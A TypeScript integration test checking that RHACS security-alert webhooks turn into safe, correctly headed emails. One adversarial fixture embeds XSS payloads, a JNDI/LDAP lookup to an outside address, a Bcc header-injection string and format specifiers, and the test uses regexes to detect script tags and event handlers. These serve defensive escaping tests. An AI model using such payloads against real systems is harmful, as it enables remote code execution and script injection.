import { globSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import Handlebars from 'handlebars';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AlertmanagerLike } from '../support/alertmanager.ts';
import { type ReceivedMail, TestSmtpServer } from '../support/smtp-server.ts';
import { startTocsin } from '../support/tocsin.ts';
import { mailConfig, mailsOf, postJson, RECIPIENT, unwrapped } from './support.ts';

const { escapeExpression } = Handlebars.Utils;

const FIXTURES = fileURLToPath(new URL('../fixtures/rhacs/', import.meta.url));

/** The subject of each fixture's mail. */
const SUBJECTS: Readonly<Record<string, string>> = {
  '01-deploy-email-annotation':
    "[FIRING:1] Medium: Deployment checkout-api (in cluster prod-eu-1) violates 'Privileged Container' Policy",
  '02-deploy-no-annotations':
    "[FIRING:1] Low: Deployment landing-page (in cluster prod-eu-1) violates 'Latest tag' Policy",
  '03-runtime-processes':
    "[FIRING:1] Low: Deployment invoice-worker (in cluster prod-eu-1) violates 'Ubuntu Package Manager Execution' Policy",
  '04-runtime-kube-exec':
    "[FIRING:1] High: Deployment ledger-db (in cluster prod-eu-1) violates 'Kubernetes Actions: Exec into Pod' Policy",
  '05-runtime-network-flow':
    "[FIRING:1] High: Deployment invoice-worker (in cluster prod-eu-1) violates 'Unauthorized Network Flow' Policy",
  '06-runtime-file-access':
    "[FIRING:1] High: Deployment invoice-worker (in cluster prod-eu-1) violates 'Tampering with account files' Policy",
  '07-deploy-network-policy':
    "[FIRING:1] Medium: Deployment checkout-api (in cluster prod-eu-1) violates 'Deployments should have at least one ingress Network Policy' Policy",
  '08-build-image':
    "[FIRING:1] High: Image quay.io/acme-shop/cart:3.0.0-beta.1 violates 'Fixable Severity at least Important' Policy",
  '09-resource-secret': "[FIRING:1] High: Policy 'OpenShift: Kubeadmin Secret Accessed' violated in cluster prod-eu-1",
  '10-resource-cluster-role':
    "[FIRING:1] Critical: Policy 'Cluster role changed by hand' violated in cluster stage-us-2",
  '11-node-file-access':
    "[FIRING:1] High: Node worker-3.prod-eu-1.example.com (in cluster prod-eu-1) violates 'Host configuration file modified' Policy",
  '12-attempted-deploy-create':
    "[EVENT:1] Medium, blocked: Deployment debug-tools (in cluster prod-eu-1) violates 'Privileged Container' Policy",
  '13-enforced-scale-to-zero':
    "[FIRING:1] High: Deployment legacy-ftp (in cluster stage-us-2) violates 'Secure Shell (ssh) Port Exposed' Policy",
  '14-deploy-multi-container':
    "[FIRING:1] Medium: Deployment storefront (in cluster prod-eu-1) violates 'No CPU request or memory limit specified' Policy",
  '15-runtime-mitre-kill-pod':
    "[FIRING:1] Critical: Deployment node-net-tool (in cluster stage-us-2) violates 'Iptables or nftables Executed in Privileged Container' Policy",
  '16-extra-fields': "[FIRING:1] Low: Deployment landing-page (in cluster prod-eu-1) violates 'Latest tag' Policy",
  '17-audit-message': 'RHACS audit: carol@example.com: Changed /v1/alerts/1e34370c-c8dc-4c4f-bc08-e938e189a190/resolve',
  '18-networkpolicy-message': "New network policy YAML for cluster 'prod-eu-1' needs to be applied",
  '19-test-button': '[TEST] Tocsin can reach you through receiver soc',
  '21-adversarial-injection':
    '[FIRING:1] High: Deployment worker"><svg onload=alert(2)> (in cluster prod-eu-1) violates \'Shell Bcc: all@example.com <script>alert(5)</script> $' +
    "{jndi:ldap://198.51.100.9/a} %s%n' Policy",
  '22-adversarial-500-violations':
    "[FIRING:1] High: Deployment monolith (in cluster prod-eu-1) violates 'Fixable CVSS >= 7' Policy",
  '23-runtime-processes-resent':
    "[FIRING:1] Low: Deployment invoice-worker (in cluster prod-eu-1) violates 'Ubuntu Package Manager Execution' Policy",
  '24-runtime-resent-deployment-gone':
    "[RESOLVED] Deployment invoice-worker (in cluster prod-eu-1) violates 'Ubuntu Package Manager Execution' Policy",
};

/** What RHACS's REST API answers, not what its webhook sends. */
const NO_MESSAGES = ['20-rest-alert-resolved'];

/** Files that go along. */
const FILES: Readonly<Record<string, readonly string[]>> = {
  '18-networkpolicy-message': ['network-policy-prod-eu-1.yaml'],
};

/** In any order; a name may be missing, none may be there besides, none twice. */
const HEADERS = [
  'auto-submitted',
  'content-type',
  'date',
  'from',
  'importance',
  'in-reply-to',
  'message-id',
  'mime-version',
  'priority',
  'references',
  'subject',
  'to',
  'x-auto-response-suppress',
  'x-priority',
];

interface RhacsAlert {
  readonly policy: { readonly name: string; readonly remediation?: string };
  readonly clusterName?: string;
  readonly namespace?: string;
  readonly deployment?: { readonly name: string };
  readonly violations?: readonly { readonly message: string }[];
  readonly processViolation?: { readonly processes: readonly { readonly signal: { readonly args?: string } }[] };
}

const read = (name: string): string => readFileSync(`${FIXTURES}${name}.json`, 'utf8');
const alertOf = (name: string): RhacsAlert | undefined => (JSON.parse(read(name)) as { alert?: RhacsAlert }).alert;

let smtp: TestSmtpServer;
let tocsin: AlertmanagerLike;

/** Posts a fixture as an integration with an extra field of the fixture's name would, so that each is an alert of its own. */
async function mailFor(name: string): Promise<ReceivedMail> {
  const before = smtp.mails.length;
  const body = read(name).replace('{', `{"fixture":${JSON.stringify(name)},`);
  const answer = await postJson(`${tocsin.url}/webhooks/rhacs`, body);
  expect(answer.status).toBe(200);
  const mails = await mailsOf(smtp, tocsin, before + 1);
  const mail = mails[before] as ReceivedMail;
  // The audit message resolves the alert of fixture 04, whose email may come in between.
  const isOther = mail.parsed.subject?.startsWith('[RESOLVED] Deployment ledger-db') ?? false;
  return isOther ? ((await mailsOf(smtp, tocsin, before + 2))[before + 1] as ReceivedMail) : mail;
}

beforeAll(async () => {
  smtp = await TestSmtpServer.start();
  tocsin = await startTocsin(mailConfig(smtp.smarthost).replace('[alertname]', "['...']"));
});

afterAll(async () => {
  await tocsin?.stop();
  await smtp?.close();
});

test('every fixture is tried', () => {
  const names = globSync('*.json', { cwd: FIXTURES }).map((file) => file.replace('.json', ''));
  expect(names.sort()).toEqual([...Object.keys(SUBJECTS), ...NO_MESSAGES].sort());
});

describe.each(Object.keys(SUBJECTS))('%s', (name) => {
  test('becomes an email with its own headers only, and two complete bodies', async () => {
    const mail = await mailFor(name);
    const { parsed } = mail;
    expect(mail.to).toEqual([RECIPIENT]);
    expect(parsed.subject).toBe(SUBJECTS[name]);
    expect(parsed.to).toMatchObject({ text: RECIPIENT });
    const headers = parsed.headerLines.map(({ key }) => key);
    expect(headers.filter((header) => !HEADERS.includes(header))).toEqual([]);
    expect(new Set(headers).size).toBe(headers.length);
    expect(parsed.attachments.map(({ filename }) => filename)).toEqual(FILES[name] ?? []);

    const html = parsed.html || '';
    expect(Buffer.byteLength(html)).toBeLessThan(100 * 1024);
    expect(html).not.toMatch(/<(script|svg|img|iframe|form|link|object)\b/i);
    expect(html).not.toMatch(/\s(href|src)="(?!https?:|mailto:)/i);
    expect(html).not.toMatch(/<[^>]*\son\w+=/i);

    const text = unwrapped(parsed.text);
    const shown = unwrapped(html);
    const isOver = parsed.subject?.startsWith('[RESOLVED]') ?? false;
    const facts = factsOf(alertOf(name), isOver);
    expect(facts.filter((fact) => !text.includes(fact))).toEqual([]);
    expect(facts.filter((fact) => !shown.includes(escapeExpression(fact).replaceAll('&#x3D;', '=')))).toEqual([]);
  });
});

test('what is no message of the webhook is refused with the reason, in a way that RHACS sends it again', async () => {
  const answer = await postJson(`${tocsin.url}/webhooks/rhacs`, read('20-rest-alert-resolved'));
  expect(answer.status).toBe(503);
  expect(await answer.text()).toBe(
    '{"error":"expected one of \\"alert\\", \\"audit\\" and \\"networkpolicy\\", found none of them"}',
  );
});

/** What nobody may miss of an alert: as far as it is plain text that a line can hold. */
function factsOf(alert: RhacsAlert | undefined, isOver: boolean): string[] {
  if (!alert || alert.policy.name.startsWith('This is a test')) return [];
  const { policy, clusterName, namespace, deployment, violations = [], processViolation } = alert;
  const processes = processViolation?.processes.map(({ signal }) => signal.args) ?? [];
  const messages = violations.slice(0, 10).flatMap(({ message }) => partsOf(message));
  const facts = [
    policy.name,
    isOver ? undefined : policy.remediation,
    clusterName,
    namespace,
    deployment?.name,
    ...messages,
    ...processes,
  ];
  return facts.filter((fact) => fact !== undefined && /^[\x20-\x7e]{1,200}$/.test(fact)).map((fact) => unwrapped(fact));
}

/** A vulnerability is taken apart for a table: what it is, where, and what resolves it. */
function partsOf(message: string): string[] {
  const match = /^Fixable (\S+) .*component '([^']+)' \(version ([^)]*)\).*resolved by version (\S+)$/.exec(message);
  return match ? [match[1], `${match[2]} ${match[3]}`, match[4]].map(String) : [message];
}
